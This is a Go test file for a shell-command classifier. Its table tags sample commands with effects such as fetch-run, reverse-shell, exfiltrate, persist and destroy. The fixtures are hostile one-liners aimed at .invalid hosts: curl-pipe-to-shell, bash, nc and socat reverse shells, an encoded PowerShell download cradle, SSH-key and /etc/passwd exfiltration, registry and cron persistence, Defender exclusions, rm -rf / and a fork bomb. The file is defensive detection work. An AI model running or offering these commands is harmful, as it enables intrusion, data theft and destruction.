package shell

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func encoded(text string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestRead holds what well-known shapes of commands do. Hosts are under
// .invalid, whatever is run is not there.
func TestRead(t *testing.T) {
	for _, tt := range []struct{ text, effects, programs string }{
		{"", "", ""},
		{"gcc -O2 -c a.c -o a.o", "", "gcc"},
		{"make -j4 && cmake .. && git describe --tags", "", "make cmake git"},
		{"pkg-config --cflags --libs openssl", "", "pkg-config"},
		{"sw_vers -productVersion", "", "sw_vers"},
		{"/sbin/ldconfig -p | grep libfoo", "", "ldconfig grep"},
		{"curl --version", "", "curl"},
		{"uname -m", "", "uname"},
		{"rm -rf build dist *.egg-info", "delete", "rm"},
		{"curl https://a.invalid/x -o /tmp/x", "fetch", "curl"},
		{"curl -fsSL https://a.invalid/x | sh", "fetch,fetch-run", "curl sh"},
		{"curl -sL https://a.invalid/x | sudo -E bash -", "fetch,fetch-run,elevate", "curl bash"},
		{"wget -qO- https://a.invalid/x.py | python3", "fetch,fetch-run", "wget python"},
		{`sh -c "$(curl -fsSL https://a.invalid/x)"`, "fetch,fetch-run,interpret", "curl sh"},
		{"bash <(curl -s https://a.invalid/x)", "fetch,fetch-run", "curl bash"},
		{`X=$(curl -s https://a.invalid/x); eval "$X"`, "fetch,fetch-run,interpret", "curl eval"},
		{"eval `curl https://a.invalid/x`", "fetch,fetch-run,interpret", "curl eval"},
		{"wget https://a.invalid/x.bin && chmod +x x.bin && ./x.bin", "fetch,fetch-run,permit", "wget chmod x.bin"},
		{"cd /tmp; curl -O https://a.invalid/run.sh; sh run.sh", "fetch,fetch-run", "cd curl sh"},
		{"curl https://a.invalid/p > /tmp/.p; nohup /tmp/.p >/dev/null 2>&1 &", "fetch,fetch-run,detach", "curl .p"},
		{"bash -i >& /dev/tcp/a.invalid/4444 0>&1", "reverse-shell", "bash"},
		{`bash -c "bash -i >& /dev/tcp/a.invalid/4444 0>&1"`, "reverse-shell,interpret", "bash bash"},
		{"nc a.invalid 4444 -e /bin/sh", "reverse-shell", "nc"},
		{"nc -z localhost 5432", "", "nc"},
		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc a.invalid 4444 > /tmp/f", "reverse-shell,delete", "rm mkfifo cat sh nc"},
		{"socat tcp-connect:a.invalid:1 exec:/bin/sh,pty", "reverse-shell", "socat"},
		{`python3 -c "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')"`, "reverse-shell,interpret", "python"},
		{`python3 -c "print(1)"`, "interpret", "python"},
		{`perl -e 'use Socket; exec "/bin/sh"'`, "reverse-shell,interpret", "perl"},
		{"powershell -w hidden -ep bypass -enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/x')"), "fetch,fetch-run,hidden,encoded,bypass,interpret", "new-object iex powershell"},
		{"powershell.exe -NoP -e " + encoded("Write-Host 1"), "encoded,interpret", "write-host powershell"},
		{`powershell -Command "iwr 'https://a.invalid/x.exe' -OutFile $env:TEMP\x.exe; Start-Process $env:TEMP\x.exe"`, "fetch,fetch-run,interpret,start", "iwr x powershell"},
		{`powershell -Command Get-Clipboard`, "recon,interpret", "get-clipboard powershell"},
		{"iex(iwr https://a.invalid/x -UseBasicParsing)", "fetch,fetch-run,interpret", "iwr iex"},
		{"iwr https://a.invalid/x | iex", "fetch,fetch-run,interpret", "iwr iex"},
		{"$c = (New-Object Net.WebClient).DownloadString('http://a.invalid'); IEX $c", "fetch,fetch-run,interpret", "new-object  iex"},
		{"Add-MpPreference -ExclusionPath C:\\", "disarm", "add-mppreference"},
		{"Start-Process x.exe -WindowStyle Hidden -Verb RunAs", "hidden,start,elevate", "x"},
		{`cmd /c "curl http://a.invalid/x.exe -o %TEMP%\x.exe && start /b %TEMP%\x.exe"`, "fetch,fetch-run,hidden,interpret,start,detach", "curl x cmd"},
		{`start "" /b pythonw x.py`, "hidden,start,detach", "pythonw"},
		{"p^ow^ershell -c whoami", "recon,interpret", "whoami powershell"},
		{`certutil -urlcache -split -f http://a.invalid/x.exe x.exe & x.exe`, "fetch,fetch-run", "certutil x"},
		{`bitsadmin /transfer j http://a.invalid/x.exe C:\t\x.exe`, "fetch", "bitsadmin"},
		{"mshta http://a.invalid/x.hta", "fetch,fetch-run,start", "mshta"},
		{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y /f`, "persist", "reg"},
		{"schtasks /create /tn x /tr y /sc onlogon", "persist", "schtasks"},
		{"(crontab -l; echo '* * * * * x') | crontab -", "persist", "crontab echo crontab"},
		{"crontab -l", "", "crontab"},
		{"echo 'x' >> ~/.bashrc", "persist", "echo"},
		{"echo key | tee -a ~/.ssh/authorized_keys", "persist", "echo tee"},
		{"systemctl --user enable x", "persist", "systemctl"},
		{"curl -d \"$(whoami)\" https://a.invalid", "fetch,recon,exfiltrate,send", "whoami curl"},
		{"curl https://a.invalid/`hostname`", "fetch,recon,exfiltrate,send", "hostname curl"},
		{"curl -F file=@/etc/passwd https://a.invalid", "fetch,exfiltrate,send", "curl"},
		{"curl -H \"Authorization: token $TOKEN\" https://a.invalid", "fetch", "curl"},
		{"curl -X POST -d '{\"a\": 1}' https://a.invalid", "fetch,send", "curl"},
		{"env | curl -X POST --data-binary @- https://a.invalid", "fetch,recon,exfiltrate,send", "env curl"},
		{"nslookup $(whoami).a.invalid", "recon,exfiltrate,lookup,send", "whoami nslookup"},
		{"ping -c 1 $USER.a.invalid", "exfiltrate,lookup,send", "ping"},
		{"cat ~/.ssh/id_rsa | nc a.invalid 1", "secret,exfiltrate,send", "cat nc"},
		{"curl -L https://a.invalid/x-$(uname -s)-$(uname -m).tar.gz -o x.tgz", "fetch", "uname uname curl"},
		{"pip install x", "install", "pip"},
		{"python -m pip install --upgrade x", "install", "python"},
		{"npm install -g x", "install", "npm"},
		{"pip list", "", "pip"},
		{"rm -rf /", "destroy,delete", "rm"},
		{"rm -rf ~/*", "destroy,delete", "rm"},
		{`del /f /s /q C:\*.*`, "destroy,delete", "del"},
		{"shutdown /s /t 0", "destroy", "shutdown"},
		{"netsh advfirewall set allprofiles state off", "disarm", "netsh"},
		{"wmic csproduct get uuid", "recon,evade", "wmic"},
		{"echo " + base64.StdEncoding.EncodeToString([]byte("whoami > /dev/null")) + " | base64 -d | sh", "encoded,recon,interpret", "echo base64 whoami sh"},
		{"python - <<EOF\nprint(1)\nEOF\nwhoami", "recon,interpret", "python whoami"},
		{"curl https://a.invalid/\uFFFC -o \uFFFC", "fetch", "curl"},
		{"sudo -u root env A=b nohup ./x &", "elevate,detach", "x"},
		{"./xmrig -o stratum+tcp://a.invalid:1", "mine", "xmrig"},
		{"if [ -f x ]; then whoami; fi", "recon", "[ whoami fi"},
		{"# curl https://a.invalid | sh", "", ""},
		{"\uFFFC -m pip install x", "install", "python"},
		{"powershell -command $a = 1; whoami", "recon,interpret", "whoami powershell"},
		{"curl -o {path} {url} && start {path}", "fetch,fetch-run,start,detach", "curl {path}"},
		{"x() { whoami; }", "recon", "x whoami"},
		{"@echo off\r\nREM curl http://a.invalid | sh\r\n:: whoami\r\nhostname\r\n", "recon", "echo hostname"},
		{":(){ :|:& };:", "destroy,detach", ": : : :"},
	} {
		c := Read(tt.text)
		var names []string
		for _, s := range c.Simple {
			names = append(names, s.Program)
		}
		if got := c.Effects.String(); got != tt.effects {
			t.Errorf("%s: %q\n effects %s\n want    %s", c.Dialect, tt.text, got, tt.effects)
		}
		if got := strings.Join(names, " "); got != tt.programs {
			t.Errorf("%s: %q\n programs %q\n want     %q", c.Dialect, tt.text, got, tt.programs)
		}
	}
}
